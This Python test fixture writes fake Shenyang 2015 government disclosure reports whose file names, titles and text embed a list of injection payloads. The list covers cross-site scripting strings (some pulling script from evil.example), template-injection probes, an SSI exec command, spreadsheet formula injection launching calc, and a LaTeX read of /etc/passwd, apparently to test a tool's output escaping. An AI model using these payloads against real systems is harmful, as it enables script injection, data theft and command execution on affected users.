"""Text that attacks whoever shows it: payloads for every input, and reports that are made of them."""

from pathlib import Path

PAYLOADS = [
    *("<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>"),
    *(
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        '"><script>alert(1)</script>',
        "'><img src=x onerror=alert(1)>",
    ),
    *('" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "</title><script>alert(1)</script>"),
    *("</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>"),
    *(
        "]]><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<!--#exec cmd='id'-->",
        "<?php echo 1 ?>",
    ),
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"),
    *("{{ 7*7 }}", "{% raw %}{{ 7*7 }}{% endraw %}", "${7*7}", "#{7*7}", "{{ config }}", "{{ ''.__class__ }}"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3E", "\\u003cscript\\u003e"),
    *("<iframe src=javascript:alert(1)>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//e>"),
    *("<form action=//evil.example><input name=q>", "<math><mi xlink:href=javascript:alert(1)>", "\u202e<b>\u2066"),
    *('=HYPERLINK("http://evil.example")', "@SUM(1+1)*cmd|' /C calc'!A0", "}}\\input{/etc/passwd}{{"),
]

NAMES = ["<script>alert(1)<", "'; alert(1); '", "]]>&lt;b&gt;", "=1+1", "{{7*7}}", "javascript:alert(1)"]
"""Names of files, and so the ids of reports."""


def write_hostile_reports(folder: Path) -> Path:
    """Write reports whose names, titles, headings and text hold all payloads; every one has 依申请公开.

    Returns:
        The folder, made by this call.
    """
    folder.mkdir()
    for number, name in enumerate(NAMES):
        payloads = PAYLOADS[number :: len(NAMES)]
        body = "\n".join(
            f"{place}、依申请公开{payload}\n依申请公开{payload}受理5件。"
            for place, payload in zip("一二三四五六七", payloads, strict=False)
        )
        title = f"沈阳市2015年政府信息公开工作年度报告{payloads[0]}"
        (folder / f"{name.replace('/', '')}.txt").write_text(f"{title}\n{body}\n", "utf-8")
    return folder
